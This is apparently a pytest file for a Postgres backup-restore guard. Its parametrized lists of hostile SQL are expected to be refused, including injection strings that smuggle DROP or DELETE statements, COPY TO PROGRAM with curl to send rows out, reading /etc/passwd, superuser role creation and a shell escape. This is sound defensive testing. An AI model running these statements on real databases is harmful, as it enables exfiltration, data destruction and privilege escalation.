"""The guard of restores: a manifest runs nothing but what makes its one table, however it is written."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from core.errors import BackupUnusable
from core.plans.guard import OwnStatements, require_its_own
from core.plans.manifest import Backup, LeftOut, Needed
from core.plans.proof import Kept
from core.plans.restore import plan_restore
from core.plans.script import general_statements
from tests.unit import factories
from tests.unit.cold_factories import RELATION, backup, surroundings

MOOD = Needed("type", "my types", "mood", "CREATE TYPE \"my types\".\"mood\" AS ENUM ('ok', 'bad')", ("ok", "bad"))
REFUSED = "that making this one table does not need"
ADD = f'ALTER TABLE {RELATION} ADD CONSTRAINT "x" '


def restored(found: Backup) -> tuple[str, ...]:
    """What a restore of it would run."""
    return plan_restore(factories.table(), Kept(found), there=surroundings()).steps[0].statements


@pytest.mark.parametrize(
    "changes",
    [
        {"afterwards": ("DROP TABLE public.kid_absences",)},
        {"afterwards": (f'ALTER TABLE {RELATION} ADD CONSTRAINT "x" CHECK (true); DROP TABLE kids',)},
        {"afterwards": (f"ALTER TABLE {RELATION} ADD CONSTRAINT \"x\" CHECK (t <> E'\\'; DROP TABLE x --') --",)},
        {"afterwards": (f"ALTER TABLE {RELATION} ADD CONSTRAINT \"x\" CHECK ($a$b$a$ = '')",)},
        {"afterwards": ('ALTER TABLE "public"."kids" ADD CONSTRAINT "x" CHECK (true)',)},
        {"create": (f"CREATE TABLE {RELATION} (a int); DELETE FROM kids",)},
        {"create": (f"CREATE TABLE {RELATION} (a int) INHERITS (public.kids)",)},
        {"create": (f"CREATE TABLE {RELATION} (LIKE public.kids INCLUDING ALL)",)},
        {"create": (f"CREATE TABLE {RELATION} (a int, LIKE public.kids)",)},
        {"create": (f"CREATE TABLE {RELATION} (a int REFERENCES public.kids)",)},
        {"create": (f"CREATE TABLE {RELATION} (a int) TABLESPACE elsewhere",)},
        {"create": (f"CREATE TABLE {RELATION} (a int) WITH (fillfactor='70') TABLESPACE elsewhere",)},
        {"create": (f"CREATE TABLE {RELATION} (a int",)},
        {"create": (f"CREATE TABLE {RELATION} AS SELECT * FROM public.kids",)},
        {"afterwards": (f'ALTER TABLE {RELATION} ADD CONSTRAINT "x" CHECK (true), OWNER TO boss',)},
        {"afterwards": (f"COMMENT ON COLUMN {RELATION}.\"a\" IS 'x' 'y'",)},
        {"create": ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC",)},
        {"needs": (replace(MOOD, sql="DROP TABLE kids"),)},
        {"needs": (replace(MOOD, sql=f"{MOOD.sql}; DROP TABLE kids"),)},
        {"left_out": (LeftOut("x", "DROP TABLE kids", (), "restore"),)},
        {"left_out": (LeftOut("x", "DROP TABLE kids", (), "columns"),)},
    ],
)
def test_a_manifest_can_not_make_anything_else_happen(changes: dict[str, Any]) -> None:
    with pytest.raises(BackupUnusable, match="that making this one table does not need"):
        restored(backup(**changes))


@pytest.mark.parametrize(
    "statement",
    [
        f"ALTER TABLE {RELATION} ADD CONSTRAINT \"a;b\" CHECK ((reason <> ';--'::text))",
        f"ALTER TABLE {RELATION} ADD CONSTRAINT \"a\" CHECK ((reason <> E'\\\\;'::text))",
        f'ALTER TABLE {RELATION} ADD CONSTRAINT "a" CHECK ((kid$a$b$c > 0))',
        f'CREATE UNIQUE INDEX "i;" ON {RELATION} USING btree (lower((reason)::text)) WHERE (kid_id > 3)',
        f"COMMENT ON COLUMN {RELATION}.\"a.b\" IS E'it''s \\\\ ;'",
        f'CREATE STATISTICS "archive"."s" (ndistinct) ON kid_id, date FROM {RELATION}',
    ],
)
def test_what_a_backup_can_hold_is_not_refused(statement: str) -> None:
    assert statement in restored(backup(afterwards=(statement,)))


HOSTILE = {
    "a DO block": "DO $$BEGIN DELETE FROM public.kids; END$$",
    "a DO block of a text": "DO 'BEGIN DELETE FROM public.kids; END'",
    "COPY to a program": "COPY public.kids TO PROGRAM 'curl -d @- example.com'",
    "COPY of its own rows to a program": f"COPY {RELATION} TO PROGRAM 'curl -d @- example.com'",
    "COPY from a file": f"COPY {RELATION} FROM '/etc/passwd'",
    "a function": "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "a call": "SELECT pg_catalog.pg_reload_conf()",
    "a procedure's call": "CALL public.f()",
    "a trigger": f'CREATE TRIGGER "t" BEFORE INSERT ON {RELATION} FOR EACH ROW EXECUTE FUNCTION public.f()',
    "a rule": f'CREATE RULE "r" AS ON INSERT TO {RELATION} DO ALSO DELETE FROM public.kids',
    "a policy": f'CREATE POLICY "p" ON {RELATION} USING (true)',
    "a role": 'CREATE ROLE "eve" SUPERUSER LOGIN',
    "a setting": "SET session_preload_libraries = 'evil'",
    "a setting of the system": "ALTER SYSTEM SET archive_command = 'curl example.com'",
    "another role": 'SET ROLE "postgres"',
    "the end of the transaction": "COMMIT",
    "an extension": 'CREATE EXTENSION "plpython3u"',
    "another table": 'CREATE TABLE "archive"."kid_absences_2023" ("a" int)',
    "a name that only begins so": 'CREATE TABLE "archive"."kid_absences_20245" ("a" int)',
    "a name in another case": 'CREATE TABLE "archive"."KID_ABSENCES_2024" ("a" int)',
    "a name without quotes": 'CREATE TABLE archive.kid_absences_2024 ("a" int)',
    "a name in escapes": 'CREATE TABLE U&"archive"."kid_absences_2024" ("a" int)',
    "a temporary table": f'CREATE TEMPORARY TABLE {RELATION} ("a" int)',
    "words in another case": f'create table {RELATION} ("a" int)',
    "a table of a query": f'CREATE TABLE {RELATION} ("a") AS SELECT 1',
    "a heir": f'CREATE TABLE {RELATION} ("a" int) INHERITS ("public"."kids")',
    "a heir with options": f'CREATE TABLE {RELATION} ("a" int) WITH (fillfactor=\'70\') INHERITS ("public"."kids")',
    "a parent": f'CREATE TABLE {RELATION} ("a" int) PARTITION BY RANGE ("a")',
    "a likeness": f'CREATE TABLE {RELATION} (LIKE "public"."kids" INCLUDING ALL)',
    "a likeness in small letters": f'CREATE TABLE {RELATION} ("a" int, like "public"."kids")',
    "a reference of a column": f'CREATE TABLE {RELATION} ("a" int REFERENCES "public"."kids")',
    "a reference in small letters": f'CREATE TABLE {RELATION} ("a" int references "public"."kids")',
    "a reference of the table": f'CREATE TABLE {RELATION} ("a" int, FOREIGN KEY ("a") REFERENCES "public"."kids")',
    "a constraint in the list": f'CREATE TABLE {RELATION} ("a" int, CONSTRAINT "x" FOREIGN KEY ("a") REFERENCES kids)',
    "an identity": f'CREATE TABLE {RELATION} ("a" int GENERATED ALWAYS AS IDENTITY)',
    "an identity over lines": f'CREATE TABLE {RELATION} ("a" int GENERATED ALWAYS AS\n\tIDENTITY)',
    "a tablespace": f'CREATE TABLE {RELATION} ("a" int) TABLESPACE "elsewhere"',
    "a tablespace after options": f'CREATE TABLE {RELATION} ("a" int) WITH (fillfactor=\'70\') TABLESPACE "elsewhere"',
    "a tablespace of an index": f'CREATE INDEX "i" ON {RELATION} USING btree (a) TABLESPACE "elsewhere"',
    "a tablespace of a partial index": (
        f'CREATE INDEX "i" ON {RELATION} USING btree (a) tablespace elsewhere WHERE (a > 1)'
    ),
    "a tablespace of a key": f'{ADD}PRIMARY KEY (a) USING INDEX TABLESPACE "elsewhere"',
    "an option that nobody knows": f"CREATE TABLE {RELATION} (\"a\" int) WITH (evil='1')",
    "another access method": f'CREATE TABLE {RELATION} ("a" int) USING "evil"',
    "a foreign key": f'{ADD}FOREIGN KEY (a) REFERENCES "public"."kids"',
    "an index of another table": 'CREATE INDEX "i" ON "public"."kids" USING btree (a)',
    "an index of ONLY another": f'CREATE INDEX "i" ON ONLY {RELATION} USING btree (a)',
    "statistics of another table": 'CREATE STATISTICS "archive"."s" ON a, b FROM "public"."kids"',
    "statistics elsewhere": f'CREATE STATISTICS "public"."s" ON a, b FROM {RELATION}',
    "a rename": f'ALTER TABLE {RELATION} RENAME TO "kids"',
    "another schema": f'ALTER TABLE {RELATION} SET SCHEMA "public"',
    "inheritance later": f'ALTER TABLE {RELATION} INHERIT "public"."kids"',
    "attached to another": f'ALTER TABLE "public"."kids" ATTACH PARTITION {RELATION} DEFAULT',
    "row security off": f"ALTER TABLE {RELATION} DISABLE ROW LEVEL SECURITY",
    "two actions": f'{ADD}CHECK (true), ADD CONSTRAINT "y" FOREIGN KEY (a) REFERENCES kids',
    "two statements": f"{ADD}CHECK (true); DELETE FROM public.kids",
    "a statement after a text": f"{ADD}CHECK (a <> 'x'); DELETE FROM public.kids",
    "a statement after a name": f'ALTER TABLE {RELATION} ALTER COLUMN "a" SET STORAGE PLAIN; DELETE FROM kids',
    "a comment to the end of the line": f"{ADD}CHECK (true) -- )",
    "a comment in brackets": f"{ADD}CHECK (/* */ true)",
    "a comment around a quote": f"{ADD}CHECK (true /*'*/); DELETE FROM kids --')",
    "dollar quotes": f"{ADD}CHECK (a <> $$x$$)",
    "dollar quotes with a tag": f"{ADD}CHECK (a <> $é$; DELETE FROM kids; $é$)",
    "a dollar after a number": f"{ADD}CHECK (1$$; DELETE FROM kids; $$)",
    "a quote that escapes a backslash": f"{ADD}CHECK (a <> E'\\\\'); DELETE FROM kids --')",
    "a quote that does not escape its end": f"{ADD}CHECK (a <> '\\'); DELETE FROM kids --')",
    "a prefix that is part of a word": f"{ADD}CHECK (typE'\\'); DELETE FROM kids --')",
    "a prefix after a letter beyond ASCII": f"{ADD}CHECK (éE'\\'); DELETE FROM kids --')",
    "texts that are joined": f"{ADD}CHECK (a <> E'' \n '\\'; DELETE FROM kids; --')",
    "a name that is not ended": f'{ADD}CHECK ("a <> 1)',
    "a text that is not ended": f"{ADD}CHECK (a <> 'x)",
    "a bracket too few": f"{ADD}CHECK (true",
    "a bracket too many": f"{ADD}CHECK (true)) , ADD CHECK ((true)",
    "a backslash": f"{ADD}CHECK (true) \\! rm",
    "the end of the rows": f"{ADD}CHECK (true)\n\\.\n",
    "a space that is none": f'CREATE\u00a0TABLE {RELATION} ("a" int)',
    "a semicolon that is none": f"{ADD}CHECK (true)\uff1b DELETE FROM kids\v",
    "a NUL": f"{ADD}CHECK (true)\0",
    "what stands for a text inside": f"{ADD}CHECK (\x01; DELETE FROM kids; \x04)",
    "a comment that is computed": f"COMMENT ON COLUMN {RELATION}.\"a\" IS 'x' || current_user",
    "a comment on another": 'COMMENT ON TABLE "public"."kids" IS \'x\'',
    "a grant on another": 'GRANT SELECT ON TABLE "public"."kids" TO "eve"',
    "a grant on another besides": f'GRANT SELECT ON TABLE {RELATION}, "public"."kids" TO "eve"',
    "a grant on all": 'GRANT ALL ON ALL TABLES IN SCHEMA "public" TO "eve"',
    "a grant on the schema": 'GRANT ALL ON SCHEMA "archive" TO "eve"',
    "a role's grant": 'GRANT "postgres" TO "eve"',
    "a revoke on another": 'REVOKE ALL ON TABLE "public"."kids" FROM PUBLIC',
    "a drop": f"DROP TABLE {RELATION}",
    "nothing": "",
}


@pytest.mark.parametrize("statement", HOSTILE.values(), ids=list(HOSTILE))
def test_a_statement_that_would_do_more(statement: str) -> None:
    """Wherever it stands, it is neither restored nor verified, nor is it when it was left out for later."""
    with pytest.raises(BackupUnusable, match=REFUSED):
        OwnStatements(backup(), "archive").checked(statement)
    for changes in ({"create": (*backup().create, statement)}, {"afterwards": (statement,)}):
        with pytest.raises(BackupUnusable, match=REFUSED):
            require_its_own(backup(**changes))
    for back in ("columns", "restore"):
        with pytest.raises(BackupUnusable, match=REFUSED):
            restored(backup(left_out=(LeftOut("x", statement, (), back),)))


@pytest.mark.parametrize(
    "sql",
    [
        'CREATE TYPE "my types"."other" AS ENUM (\'a\')',
        'CREATE TYPE "my types"."mood"',
        'CREATE TYPE "my types"."mood" (INPUT = f, OUTPUT = g)',
        'CREATE DOMAIN "my types"."mood" AS int CHECK ($$a$$ <> \'\')',
        'CREATE TYPE "my types"."mood" AS ENUM (\'a\') -- ',
        'CREATE TYPE "my types"."mood" AS ENUM (\'\\\'); DROP TABLE kids --\')',
        'CREATE EXTENSION IF NOT EXISTS "plpython3u"',
        "SELECT 1",
    ],
)
def test_a_type_that_would_do_more(sql: str) -> None:
    found = backup(needs=(replace(MOOD, sql=sql),))
    with pytest.raises(BackupUnusable, match=REFUSED):
        restored(found)
    with pytest.raises(BackupUnusable, match=REFUSED):
        require_its_own(found)


@pytest.mark.parametrize(
    "sql",
    [
        'CREATE EXTENSION IF NOT EXISTS "citext" WITH SCHEMA "public" CASCADE',
        'CREATE EXTENSION IF NOT EXISTS "plpython3u"',
        'CREATE EXTENSION "citext"',
        'CREATE EXTENSION IF NOT EXISTS "citext" WITH SCHEMA "pg_catalog"',
    ],
)
def test_an_extension_that_would_do_more(sql: str) -> None:
    with pytest.raises(BackupUnusable, match=REFUSED):
        OwnStatements(backup(needs=(Needed("extension", "public", "citext", sql),)), "archive")


def test_what_stands_before_the_table_is_ours_to_the_letter() -> None:
    """A verification runs it as it stands there."""
    ours = general_statements("UTF8", "archive", (), "")
    require_its_own(backup())
    for place in range(len(ours)):
        create = [*backup().create]
        create[place] = "DO $do$BEGIN DELETE FROM public.kids; END$do$"
        with pytest.raises(BackupUnusable, match=REFUSED):
            require_its_own(backup(create=tuple(create)))
    with pytest.raises(BackupUnusable, match=REFUSED):
        require_its_own(backup(create=backup().create[len(ours) :]))


@pytest.mark.parametrize(
    "statement",
    [
        f'CREATE INDEX "i" ON {RELATION} USING btree (tablespace) WHERE (tablespace IS NOT NULL)',
        f'GRANT SELECT, UPDATE ("a") ON TABLE {RELATION} TO "anna" WITH GRANT OPTION',
        f'{ADD}EXCLUDE USING gist ("period" WITH &&)',
        f"COMMENT ON TABLE {RELATION} IS NULL",
    ],
)
def test_what_belongs_to_the_table_is_let_through(statement: str) -> None:
    assert OwnStatements(backup(), "archive").checked(statement) == statement


def test_only_the_names_of_the_table_and_its_schema_change() -> None:
    own = OwnStatements(backup(), 'the "cold"')
    moved = '"the ""cold"""."kid_absences_2024"'
    text = f'COMMENT ON TABLE {RELATION} IS \'of "archive"."kid_absences_2024"\''
    assert own.checked(text) == f'COMMENT ON TABLE {moved} IS \'of "archive"."kid_absences_2024"\''
    assert own.checked(f'CREATE INDEX "a""b" ON {RELATION} USING btree (a)') == (
        f'CREATE INDEX "a""b" ON {moved} USING btree (a)'
    )
    assert own.names == ["kid_absences_2024_key", "kid_absences_2024_date_idx", 'a"b']
